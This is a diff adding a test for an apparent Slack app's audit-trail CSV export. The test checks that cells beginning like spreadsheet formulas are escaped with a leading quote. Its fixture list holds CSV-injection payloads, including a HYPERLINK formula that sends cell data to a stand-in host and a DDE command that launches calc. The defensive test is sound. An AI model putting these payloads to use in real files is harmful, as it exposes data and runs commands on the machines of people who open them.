@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { startHarness, setTeam, type Harness } from '../helpers/harness';
 import { runBackupCli } from '../../src/cli/backup';
 import { AUDIT_PAGE_SIZE } from '../../src/domain/audit';
@@ -69,6 +70,20 @@ describe('audit trail: /coach audit and its CSV', () => {
     expect(csv).toContain('level.changed');
     expect(csv).toContain('audit.viewed'); // looking at the trail is on the trail
     expect(kinds().filter((r) => r.kind === 'audit.exported')).toEqual([{ kind: 'audit.exported', actor_id: admin, subject_id: null }]);
+  });
+
+  it('the CSV carries every cell as text: a row whose actor or subject starts like a formula cannot run in a spreadsheet', async () => {
+    // Rows can come from outside Slack's ids (an operator's `npm run report -- --manager`, a restored backup):
+    // the CSV must not trust that no cell starts with = + - @ tab or CR.
+    const cells = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', '+1+cmd|\' /C calc\'!A0', '@SUM(1)', '-2+3', '\tTAB', '\rCR'];
+    for (const c of cells) h.leadwell.slack.deps.audit.record('report.exported', c, c, { via: 'cli' });
+    const before = h.emulator.files().length;
+    await ask(h.people.admin, 'audit export');
+    const file = await h.emulator.waitFor(() => h.emulator.files().slice(before).find((f) => f.completed));
+    const rows = parse(file.bytes!.toString('utf8')) as string[][];
+    const hostile = rows.filter((r) => cells.includes(r[3]!.slice(1)));
+    expect(hostile.map((r) => [r[3], r[4]]).sort()).toEqual(cells.map((c) => [`'${c}`, `'${c}`]).sort());
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('pages: the second page holds the older entries', async () => {
